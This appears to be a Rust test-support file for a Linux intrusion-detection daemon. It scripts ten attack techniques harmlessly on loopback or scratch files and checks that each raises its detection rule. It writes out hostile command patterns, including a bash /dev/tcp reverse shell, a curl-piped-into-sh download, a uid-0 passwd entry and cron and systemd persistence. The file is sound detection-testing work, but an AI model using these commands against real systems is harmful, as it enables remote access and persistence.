//! The scripted Linux attack techniques the system tests run on the real
//! kernel, each with the built-in rule it must raise.
//!
//! Every script does the real thing, harmlessly: the reverse shell and the
//! download connect to the test's own loopback listeners, persistence files
//! get unique names and are removed right after, "`/etc/passwd`" is a copy
//! that picketd's file integrity monitor watches instead of the real one,
//! the kernel module is junk that the kernel refuses, and the ptrace target
//! is the test's own `sleep`.
//!
//! A script returns a [`Trace`]: the wall-clock time taken just before the
//! action, and the mark (pid, path, content hash) that tells its alert apart
//! from everything else the daemon sees, so tests can share the machine.
//! `tests/kernel_events.rs` checks the events and alerts of each script,
//! `tests/attack_latency.rs` times each one to the backend ([`ALL`]).

use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// A technique and the alert it must raise.
#[derive(Debug, Clone, Copy)]
pub struct Technique {
    /// What the script does, for tables.
    pub name: &'static str,
    /// The title of the built-in rule it raises.
    pub rule_title: &'static str,
    /// The alert's ATT&CK technique ids (from the rule's tags).
    pub techniques: &'static [&'static str],
    script: Script,
}

#[derive(Debug, Clone, Copy)]
enum Script {
    ReverseShell,
    DownloadPipeShell,
    CronJob,
    PasswdWrite,
    SetuidBinary,
    HistoryClearing,
    ModuleLoad,
    PtraceAttach,
    MemfdExec,
    SystemdUnit,
}

/// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` to a listener that says `exit`.
pub const REVERSE_SHELL: Technique = Technique {
    name: "reverse shell: bash -i >& /dev/tcp",
    rule_title: "Shell Redirected to a Network Socket via /dev/tcp",
    techniques: &["T1059.004"],
    script: Script::ReverseShell,
};
/// `curl -fsS http://127.0.0.1:PORT/install.sh | sh` from a local server.
pub const DOWNLOAD_PIPE_SHELL: Technique = Technique {
    name: "curl ... | sh",
    rule_title: "Download Piped Into a Shell",
    techniques: &["T1059.004", "T1105"],
    script: Script::DownloadPipeShell,
};
/// A job written to `/etc/cron.d/`.
pub const CRON_JOB: Technique = Technique {
    name: "cron job in /etc/cron.d",
    rule_title: "Cron Job Written for Persistence",
    techniques: &["T1053.003"],
    script: Script::CronJob,
};
/// An account appended to the monitored passwd copy.
pub const PASSWD_WRITE: Technique = Technique {
    name: "account appended to passwd",
    rule_title: "Critical System File Changed",
    techniques: &["T1098"],
    script: Script::PasswdWrite,
};
/// A copy of `/bin/true` made set-uid root.
pub const SETUID_BINARY: Technique = Technique {
    name: "new set-uid binary",
    rule_title: "Set-UID or Set-GID Bit Set on a File",
    techniques: &["T1548.001"],
    script: Script::SetuidBinary,
};
/// `truncate -s 0 .bash_history`.
pub const HISTORY_CLEARING: Technique = Technique {
    name: "history cleared",
    rule_title: "Shell History Cleared or Disabled",
    techniques: &["T1070.003"],
    script: Script::HistoryClearing,
};
/// `finit_module` of a junk file (refused by the kernel).
pub const MODULE_LOAD: Technique = Technique {
    name: "kernel module load attempt",
    rule_title: "Kernel Module Load Attempt",
    techniques: &["T1547.006"],
    script: Script::ModuleLoad,
};
/// `PTRACE_ATTACH` to a running process.
pub const PTRACE_ATTACH: Technique = Technique {
    name: "ptrace attach",
    rule_title: "Process Attach or Memory Write via ptrace",
    techniques: &["T1055.008"],
    script: Script::PtraceAttach,
};
/// A payload written to a memfd and executed from it.
pub const MEMFD_EXEC: Technique = Technique {
    name: "memfd-executed payload",
    rule_title: "Fileless Execution From Memory (memfd or Deleted Binary)",
    techniques: &["T1620"],
    script: Script::MemfdExec,
};
/// A service unit written to `/etc/systemd/system/`.
pub const SYSTEMD_UNIT: Technique = Technique {
    name: "systemd unit in /etc/systemd/system",
    rule_title: "Systemd Unit Written for Persistence",
    techniques: &["T1543.002"],
    script: Script::SystemdUnit,
};

/// The techniques, in table order.
pub const ALL: [Technique; 10] = [
    REVERSE_SHELL,
    DOWNLOAD_PIPE_SHELL,
    CRON_JOB,
    PASSWD_WRITE,
    SETUID_BINARY,
    HISTORY_CLEARING,
    MODULE_LOAD,
    PTRACE_ATTACH,
    MEMFD_EXEC,
    SYSTEMD_UNIT,
];

/// Where scripts may write.
#[derive(Debug, Clone)]
pub struct Stage {
    /// A scratch directory under a watched prefix (`/tmp/`).
    pub scratch: PathBuf,
    /// The passwd copy picketd's file integrity monitor watches.
    pub passwd: PathBuf,
}

impl Technique {
    /// Runs the script once. The ptrace target is ready when its exec is
    /// visible in `/proc` (tests that need picketd to have seen the exec
    /// call [`ptrace_attach`] themselves).
    pub fn run(&self, stage: &Stage) -> Trace {
        match self.script {
            Script::ReverseShell => reverse_shell(),
            Script::DownloadPipeShell => download_pipe_shell(),
            Script::CronJob => cron_job(),
            Script::PasswdWrite => passwd_write(&stage.passwd),
            Script::SetuidBinary => setuid_binary(&stage.scratch),
            Script::HistoryClearing => history_clearing(&stage.scratch),
            Script::ModuleLoad => module_load(&stage.scratch.join(format!("{}.ko", nonce()))),
            Script::PtraceAttach => ptrace_attach(|pid| exec_done(pid, "/bin/sleep")),
            Script::MemfdExec => memfd_exec(&format!("picket-payload-{}", nonce())),
            Script::SystemdUnit => systemd_unit(),
        }
    }

    /// Whether `alert` (a line of picketd's alerts file) is this
    /// technique's alert for `trace`.
    pub fn raised(&self, trace: &Trace, alert: &Value) -> bool {
        alert["rule_title"] == self.rule_title && trace.matches(alert)
    }
}

/// One run of a script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Trace {
    /// Wall clock just before the action, ms since the Unix epoch.
    pub at_ms: u64,
    /// What identifies the action's alert.
    pub mark: Mark,
}

/// What identifies an action's alert among picketd's alerts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Mark {
    /// The acting process: `event.process.pid`.
    Pid(u64),
    /// The file the event names: `event.kind.path`.
    Path(String),
    /// A file integrity change to this content: `event.kind.path` and
    /// `event.kind.new_hash` (SHA-256, hex).
    Content {
        /// The monitored file.
        path: String,
        /// The hash of what the action wrote.
        sha256: String,
    },
    /// The traced process: `event.kind.target_pid`.
    TargetPid(u64),
}

impl Trace {
    fn new(at_ms: u64, mark: Mark) -> Self {
        Trace { at_ms, mark }
    }

    /// Whether an alert of picketd's alerts file comes from this action.
    pub fn matches(&self, alert: &Value) -> bool {
        let e = &alert["event"];
        match &self.mark {
            Mark::Pid(p) => e["process"]["pid"] == *p,
            Mark::Path(p) => e["kind"]["path"] == p.as_str(),
            Mark::Content { path, sha256 } => {
                e["kind"]["path"] == path.as_str() && e["kind"]["new_hash"] == sha256.as_str()
            }
            Mark::TargetPid(p) => e["kind"]["target_pid"] == *p,
        }
    }

    /// The marked pid (acting or traced process).
    pub fn pid(&self) -> Option<u64> {
        match self.mark {
            Mark::Pid(p) | Mark::TargetPid(p) => Some(p),
            _ => None,
        }
    }

    /// The marked path.
    pub fn path(&self) -> Option<&str> {
        match &self.mark {
            Mark::Path(p) | Mark::Content { path: p, .. } => Some(p),
            _ => None,
        }
    }
}

/// Wall clock, ms since the Unix epoch (the backend's `received_ms` clock).
pub fn now_ms() -> u64 {
    let d = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
    u64::try_from(d.as_millis()).unwrap()
}

/// 12 random hex digits.
pub fn nonce() -> String {
    let mut b = [0u8; 6];
    // SAFETY: valid buffer.
    unsafe { libc::getrandom(b.as_mut_ptr().cast(), b.len(), 0) };
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// Runs `bash -c SCRIPT` (stdin and stderr closed, killed after 20 s) and
/// returns its pid.
pub fn bash(script: &str) -> u64 {
    let mut child = Command::new("/bin/bash")
        .args(["-c", script])
        // an interactive shell must not write to root's real history
        .env("HISTFILE", "")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = u64::from(child.id());
    let deadline = Instant::now() + Duration::from_secs(20);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("bash -c {script:?} did not finish");
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    pid
}

/// Serves one connection on a loopback listener from a thread: `reply`
/// gets the stream (read and write timeouts 10 s). The thread gives up
/// after 20 s without a connection.
fn serve_once(reply: impl FnOnce(std::net::TcpStream) + Send + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let deadline = Instant::now() + Duration::from_secs(20);
        while Instant::now() < deadline {
            match listener.accept() {
                Ok((s, _)) => {
                    s.set_nonblocking(false).unwrap();
                    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                    let _ = s.set_write_timeout(Some(Duration::from_secs(10)));
                    reply(s);
                    return;
                }
                Err(_) => std::thread::sleep(Duration::from_millis(2)),
            }
        }
    });
    port
}

/// A real reverse shell, caught by the test: the "attacker" listening on
/// loopback answers `exit`, so the interactive shell ends at once. Marks
/// the shell that redirected to the socket.
pub fn reverse_shell() -> Trace {
    let port = serve_once(|mut s| {
        let _ = s.write_all(b"exit\n");
        let _ = std::io::copy(&mut s, &mut std::io::sink());
    });
    let at = now_ms();
    let pid = bash(&format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"));
    Trace::new(at, Mark::Pid(pid))
}

/// `curl | sh` of a script (`true`) served from loopback. Marks the shell
/// running the pipeline.
pub fn download_pipe_shell() -> Trace {
    let port = serve_once(|mut s| {
        let mut buf = [0u8; 1024];
        let _ = s.read(&mut buf);
        let body = "true\n";
        let _ = write!(
            s,
            "HTTP/1.0 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    });
    let at = now_ms();
    let pid = bash(&format!(
        "curl -fsS --max-time 10 http://127.0.0.1:{port}/install.sh | sh"
    ));
    Trace::new(at, Mark::Pid(pid))
}

/// Writes `/etc/cron.d/picket-hil-NONCE` (a job running `true`) and
/// removes it. Marks the file.
pub fn cron_job() -> Trace {
    let f = format!("/etc/cron.d/picket-hil-{}", nonce());
    let at = now_ms();
    bash(&format!("echo '* * * * * root true' > {f}"));
    let _ = std::fs::remove_file(&f);
    Trace::new(at, Mark::Path(f))
}

/// Appends a uid-0 account to `passwd` (a copy the FIM watches) from a
/// shell. Marks the file and its new content.
pub fn passwd_write(passwd: &Path) -> Trace {
    use sha2::Digest;
    let at = now_ms();
    bash(&format!(
        "echo 'picket{}:x:0:0::/:/bin/sh' >> {}",
        nonce(),
        passwd.display()
    ));
    let sha256 = sha2::Sha256::digest(std::fs::read(passwd).unwrap())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    Trace::new(
        at,
        Mark::Content {
            path: passwd.to_str().unwrap().to_owned(),
            sha256,
        },
    )
}

/// Copies `/bin/true` into `dir` and sets its set-uid bit (mode 4755).
/// Marks the copy.
pub fn setuid_binary(dir: &Path) -> Trace {
    use std::os::unix::fs::PermissionsExt;
    let f = dir.join(format!("suid-{}", nonce()));
    let at = now_ms();
    std::fs::copy("/bin/true", &f).unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o4755)).unwrap();
    Trace::new(at, Mark::Path(f.to_str().unwrap().to_owned()))
}

/// Empties a `.bash_history` in a fresh directory under `dir` with
/// `truncate`. Marks the shell.
pub fn history_clearing(dir: &Path) -> Trace {
    let home = dir.join(format!("home-{}", nonce()));
    std::fs::create_dir_all(&home).unwrap();
    let hist = home.join(".bash_history");
    std::fs::write(&hist, "ls\n").unwrap();
    let at = now_ms();
    // `; true` keeps bash from exec'ing truncate in its own process
    let pid = bash(&format!("truncate -s 0 {}; true", hist.display()));
    Trace::new(at, Mark::Pid(pid))
}

/// Writes junk to `ko` and asks the kernel to load it with `finit_module`
/// (refused). Marks the file.
pub fn module_load(ko: &Path) -> Trace {
    use std::os::fd::AsRawFd;
    std::fs::write(ko, b"\x7fELF this is not a kernel module").unwrap();
    let f = std::fs::File::open(ko).unwrap();
    let at = now_ms();
    // SAFETY: a raw syscall with a valid fd and string; expected to fail.
    let r = unsafe { libc::syscall(libc::SYS_finit_module, f.as_raw_fd(), c"".as_ptr(), 0) };
    assert!(r < 0, "junk must not load");
    Trace::new(at, Mark::Path(ko.to_str().unwrap().to_owned()))
}

/// Attaches to a `sleep` child with `PTRACE_ATTACH`, then detaches and
/// kills it. `ready` is called with the child's pid before the attach (to
/// wait for its exec). Marks the target.
pub fn ptrace_attach(ready: impl FnOnce(u32)) -> Trace {
    let mut target = Command::new("/bin/sleep").arg("30").spawn().unwrap();
    ready(target.id());
    let tpid = i32::try_from(target.id()).unwrap();
    let at = now_ms();
    // SAFETY: attaching to our own child, then detaching.
    unsafe {
        assert_eq!(
            libc::ptrace(libc::PTRACE_ATTACH, tpid, 0, 0),
            0,
            "{}",
            std::io::Error::last_os_error()
        );
        let mut st = 0;
        libc::waitpid(tpid, &raw mut st, 0);
        libc::ptrace(libc::PTRACE_DETACH, tpid, 0, 0);
    }
    target.kill().unwrap();
    target.wait().unwrap();
    Trace::new(at, Mark::TargetPid(u64::from(target.id())))
}

/// Waits (10 s at most) until process `pid` runs `image`.
pub fn exec_done(pid: u32, image: &str) {
    let want = std::fs::canonicalize(image).unwrap();
    crate::wait_for(
        &format!("{pid} to exec {image}"),
        Duration::from_secs(10),
        || {
            let exe = std::fs::read_link(format!("/proc/{pid}/exe")).ok()?;
            (exe == want).then_some(())
        },
    );
}

/// Copies `/bin/true` into a memfd named `name` and runs it from there.
/// Marks the process run from memory.
pub fn memfd_exec(name: &str) -> Trace {
    let cname = std::ffi::CString::new(name).unwrap();
    let payload = std::fs::read("/bin/true").unwrap();
    let at = now_ms();
    // SAFETY: valid name; no MFD_CLOEXEC so the child can exec it.
    let fd = unsafe { libc::memfd_create(cname.as_ptr(), 0) };
    assert!(fd >= 0, "{}", std::io::Error::last_os_error());
    // SAFETY: valid buffer and fd.
    let w = unsafe { libc::write(fd, payload.as_ptr().cast(), payload.len()) };
    assert_eq!(usize::try_from(w).unwrap(), payload.len());
    let mut child = Command::new(format!("/proc/self/fd/{fd}")).spawn().unwrap();
    let pid = u64::from(child.id());
    let ok = child.wait().unwrap().success();
    // SAFETY: closing our fd.
    unsafe { libc::close(fd) };
    assert!(ok, "the memfd payload failed");
    Trace::new(at, Mark::Pid(pid))
}

/// Writes `/etc/systemd/system/picket-hil-NONCE.service` (running `true`;
/// never enabled or loaded) and removes it. Marks the file.
pub fn systemd_unit() -> Trace {
    let f = format!("/etc/systemd/system/picket-hil-{}.service", nonce());
    let at = now_ms();
    bash(&format!(
        "printf '[Service]\\nExecStart=/bin/true\\n' > {f}"
    ));
    let _ = std::fs::remove_file(&f);
    Trace::new(at, Mark::Path(f))
}
